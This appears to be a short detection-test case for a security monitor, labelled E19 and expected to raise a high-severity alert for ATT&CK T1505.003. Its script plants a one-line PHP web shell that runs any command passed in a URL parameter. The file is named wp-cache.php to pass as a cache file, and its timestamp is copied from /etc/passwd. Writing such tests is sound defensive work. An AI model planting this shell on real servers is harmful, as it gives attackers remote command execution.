# id: E19
# title: A script that web servers run is left among the pages
# expect: alert
# severity: high
# kinds: file
# attck: T1505.003
# image: php
# launch: app

mkdir -p /srv/www
echo '<?php if (isset($_GET["c"])) { system($_GET["c"]); }' >/srv/www/wp-cache.php
touch -r /etc/passwd /srv/www/wp-cache.php
